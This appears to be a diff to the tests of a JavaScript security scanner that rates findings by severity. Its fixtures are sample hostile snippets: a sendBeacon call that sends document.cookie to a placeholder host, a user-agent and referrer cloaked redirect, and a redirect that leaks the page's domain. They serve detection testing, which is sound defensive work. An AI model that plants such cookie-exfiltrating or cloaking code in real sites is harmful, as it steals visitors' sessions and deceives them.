@@ -23,7 +23,7 @@ def _cats(findings: list[Finding], minimum: Severity = Severity.LOW) -> set[Cate
 
 def test_declared_capability_turns_the_finding_into_info() -> None:
     source = "var f = new Function('a', userCode);"
-    assert max(f.severity for f in _findings(source)) is Severity.MEDIUM
+    assert max(f.severity for f in _findings(source)) is Severity.LOW
     declared = _findings(source, Capabilities(eval=True))
     assert [f.severity for f in declared] == [Severity.INFO]
     assert "declares eval" in declared[0].message
@@ -209,3 +209,29 @@ def test_declared_cookies_do_not_excuse_sending_them_away() -> None:
     direct = "navigator.sendBeacon('https://c.example/', document.cookie);"
     found = _rule(_findings(direct, Capabilities(cookies=True)), "js-cookie-access")
     assert [f.severity for f in found] == [Severity.CRITICAL]
+
+
+def test_redirects_by_intent_not_by_the_link() -> None:
+    link = "button.onclick = function () { window.open('https://docs.example.org/help'); };"
+    cloaked = """
+    if (/Android|iPhone/.test(navigator.userAgent) && document.referrer.indexOf('google') > -1) {
+      window.location.href = 'https://promo.example.net/land';
+    }
+    """
+    carrying = "location.href = 'https://t.example.net/r?from=' + document.domain;"
+    assert [f.severity for f in _rule(_findings(link), "js-navigation")] == [Severity.LOW]
+    found = _rule(_findings(cloaked), "js-navigation")
+    assert [(f.severity, f.category) for f in found] == [(Severity.HIGH, Category.MALWARE)]
+    assert [f.severity for f in _rule(_findings(carrying), "js-navigation")] == [Severity.HIGH]
+
+
+def test_capability_evidence_without_data_flow_is_low() -> None:
+    """Code a library contains but a plugin may never run is a reason to look, not to judge."""
+    source = """
+    function load(u) { return fetch(u).then(function (r) { return r.json(); }); }
+    function toast(m) { var d = document.createElement('div'); d.textContent = m;
+      document.body.appendChild(d); }
+    function compile(t) { return new Function('data', t); }
+    """
+    found = [f for f in _findings(source) if f.severity > Severity.INFO]
+    assert found and all(f.severity is Severity.LOW for f in found)
